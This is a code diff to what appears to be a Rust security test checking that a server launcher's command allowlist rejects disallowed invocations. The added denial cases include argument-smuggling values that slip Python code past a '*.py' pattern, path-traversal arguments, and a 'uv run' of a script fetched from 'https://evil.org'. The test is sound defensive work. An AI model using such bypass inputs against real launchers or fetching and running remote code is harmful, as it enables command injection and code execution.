@@ -46,6 +46,14 @@ async fn callers_start_nothing_but_what_is_allowed() {
         name = "python3"
         path = "/usr/bin/python3"
         args = ["/srv/server.py", "--port=*"]
+        [[command]]
+        name = "python"
+        path = "/usr/bin/python3"
+        args = ["*.py"]
+        [[command]]
+        name = "uv"
+        path = "/usr/bin/touch"
+        args = ["--directory", "/srv/**", "run", "*"]
         "#,
         env = at("env"),
     );
@@ -74,6 +82,14 @@ async fn callers_start_nothing_but_what_is_allowed() {
         server("python3", &["-c", "open('proof', 'w')"]),
         server("python3", &["/srv/server.py", "-c"]),
         server("python3", &["-", "--port=1"]),
+        server("python", &["-cimport os;os.open('proof',os.O_CREAT)#.py"]),
+        server("python", &["../server.py"]),
+        server("uv", &["--directory", "/srv/../tmp", "run", "x.py"]),
+        server(
+            "uv",
+            &["--directory", "/srv/a", "run", "https://evil.org/x.py"],
+        ),
+        server("uv", &["--directory", "/srv/a", "run", "--with=evil"]),
         server("sh", &["-c", "touch proof"]),
         server(&at("tricks/npx").display().to_string(), &allowed),
         server("tricks/npx", &allowed),
